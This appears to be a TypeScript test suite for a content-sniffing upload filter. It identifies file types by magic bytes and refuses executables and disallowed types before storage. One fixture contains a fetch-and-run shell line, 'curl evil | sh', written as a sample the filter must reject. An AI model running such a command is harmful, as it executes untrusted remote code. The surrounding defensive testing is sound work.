import { Readable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { Writable } from 'node:stream';
import { ContentSniffer, sniffContentType, sniffUpload } from './content-sniffing';

const bytes = (...parts: Array<string | number[]>) =>
  Buffer.concat(
    parts.map((p) => (typeof p === 'string' ? Buffer.from(p, 'latin1') : Buffer.from(p))),
  );

const SAMPLES: Record<string, Buffer> = {
  'application/pdf': bytes('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj'),
  'image/png': bytes([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a], [0, 0, 0, 13], 'IHDR'),
  'image/jpeg': bytes([0xff, 0xd8, 0xff, 0xe0, 0, 16], 'JFIF\0', [1, 1, 0, 0, 1]),
  'image/tiff': bytes([0x49, 0x49, 0x2a, 0x00, 8, 0, 0, 0], [0, 0, 0, 0, 0, 0, 0, 0]),
  'image/gif': bytes('GIF89a', [1, 0, 1, 0, 0x80, 0, 0, 0, 0, 0]),
  'image/webp': bytes('RIFF', [0x24, 0, 0, 0], 'WEBPVP8 ', [0, 0, 0, 0]),
  'image/heic': bytes([0, 0, 0, 0x18], 'ftypheic', [0, 0, 0, 0], 'mif1heic'),
};

const EXECUTABLES: Array<[string, Buffer, string]> = [
  [
    'ELF',
    bytes([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0], [0, 0, 0, 0, 0, 0, 0, 0]),
    'application/x-elf',
  ],
  [
    'PE',
    bytes('MZ', [0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xff, 0xff, 0, 0]),
    'application/vnd.microsoft.portable-executable',
  ],
  [
    'Mach-O 64',
    bytes([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1], [3, 0, 0, 0, 2, 0, 0, 0]),
    'application/x-mach-binary',
  ],
  [
    'Mach-O universal',
    bytes([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2], [0, 0, 0, 7, 0, 0, 0, 3]),
    'application/x-mach-binary',
  ],
  ['shell script', bytes('#!/bin/sh\ncurl evil | sh\n'), 'text/x-shellscript'],
  [
    'script behind a BOM',
    bytes([0xef, 0xbb, 0xbf], '#!/usr/bin/env python3\n'),
    'text/x-shellscript',
  ],
];

async function through(sniffer: ContentSniffer, data: Buffer, chunkSize: number): Promise<Buffer> {
  const chunks: Buffer[] = [];
  const source = Readable.from(
    (function* () {
      for (let at = 0; at < data.length; at += chunkSize) yield data.subarray(at, at + chunkSize);
    })(),
  );
  await pipeline(
    source,
    sniffer,
    new Writable({
      write(chunk: Buffer, _e, done) {
        chunks.push(chunk);
        done();
      },
    }),
  );
  return Buffer.concat(chunks);
}

describe('sniffContentType', () => {
  it.each(Object.entries(SAMPLES))('recognises %s by its magic bytes', (type, head) => {
    expect(sniffContentType(head)).toEqual({ mimeType: type, executable: false });
  });

  it.each(EXECUTABLES)('recognises %s as executable', (_name, head, type) => {
    expect(sniffContentType(head)).toEqual({ mimeType: type, executable: true });
  });

  it('recognises nothing in text, HTML, ZIP or an empty file', () => {
    for (const head of [
      bytes('hello world, plain text'),
      bytes('<html><script>'),
      bytes('PK\x03\x04'),
      Buffer.alloc(0),
    ])
      expect(sniffContentType(head)).toBeNull();
  });

  it('does not take a RIFF that is not WebP (a WAV) or an ftyp that is not HEIC (an MP4) for an image', () => {
    expect(sniffContentType(bytes('RIFF', [0, 0, 0, 0], 'WAVEfmt '))).toBeNull();
    expect(sniffContentType(bytes([0, 0, 0, 0x18], 'ftypisom', [0, 0, 0, 0]))).toBeNull();
  });
});

describe('ContentSniffer', () => {
  it('passes an allowed file through unchanged, even when it arrives a byte at a time', async () => {
    const pdf = Buffer.concat([SAMPLES['application/pdf'], Buffer.alloc(1000, 0x20)]);
    const sniffer = new ContentSniffer(['application/pdf']);
    expect(await through(sniffer, pdf, 1)).toEqual(pdf);
    expect(sniffer.detected?.mimeType).toBe('application/pdf');
  });

  it('passes a tiny allowed file shorter than the sniffing window', async () => {
    const gif = bytes('GIF89a');
    expect(await through(new ContentSniffer(), gif, 3)).toEqual(gif);
  });

  it.each(EXECUTABLES)('refuses %s before any byte reaches the store', async (_name, head) => {
    const sniffer = new ContentSniffer();
    const received: Buffer[] = [];
    const sink = new Writable({
      write(chunk: Buffer, _e, done) {
        received.push(chunk);
        done();
      },
    });
    await expect(
      pipeline(Readable.from([head, Buffer.alloc(5000)]), sniffer, sink),
    ).rejects.toMatchObject({ code: 'OBJECT_STORAGE.CONTENT_NOT_ALLOWED' });
    expect(received).toEqual([]);
  });

  it('refuses a recognised type outside the allow-list, and an unrecognised one', async () => {
    await expect(
      through(new ContentSniffer(['application/pdf']), SAMPLES['image/png'], 4),
    ).rejects.toMatchObject({ code: 'OBJECT_STORAGE.CONTENT_NOT_ALLOWED', detected: 'image/png' });
    await expect(
      through(new ContentSniffer(), bytes('just some text, not a document'), 8),
    ).rejects.toMatchObject({
      code: 'OBJECT_STORAGE.CONTENT_NOT_ALLOWED',
      detected: null,
    });
    await expect(through(new ContentSniffer(), Buffer.alloc(0), 8)).rejects.toMatchObject({
      code: 'OBJECT_STORAGE.CONTENT_NOT_ALLOWED',
    });
  });
});

describe('sniffUpload', () => {
  const read = async (stream: NodeJS.ReadableStream) => {
    const chunks: Buffer[] = [];
    for await (const chunk of stream) chunks.push(chunk as Buffer);
    return Buffer.concat(chunks);
  };

  it('answers the type and a stream that still carries every byte, head included', async () => {
    const pdf = Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(70_000, 0x41)]);
    const source = Readable.from([pdf.subarray(0, 3), pdf.subarray(3, 20), pdf.subarray(20)]);
    const { mimeType, body } = await sniffUpload(source);
    expect(mimeType).toBe('application/pdf');
    expect((await read(body)).equals(pdf)).toBe(true);
  });

  it('refuses an executable named anything before handing a byte on', async () => {
    const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46]), Buffer.alloc(100)]);
    await expect(sniffUpload(Readable.from([elf]))).rejects.toMatchObject({
      code: 'OBJECT_STORAGE.CONTENT_NOT_ALLOWED',
    });
  });

  it('refuses an empty upload and a type outside the allow-list', async () => {
    await expect(sniffUpload(Readable.from([]))).rejects.toMatchObject({
      code: 'OBJECT_STORAGE.CONTENT_NOT_ALLOWED',
    });
    const png = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, ...Buffer.alloc(20)]);
    await expect(sniffUpload(Readable.from([png]), ['application/pdf'])).rejects.toMatchObject({
      code: 'OBJECT_STORAGE.CONTENT_NOT_ALLOWED',
    });
  });
});
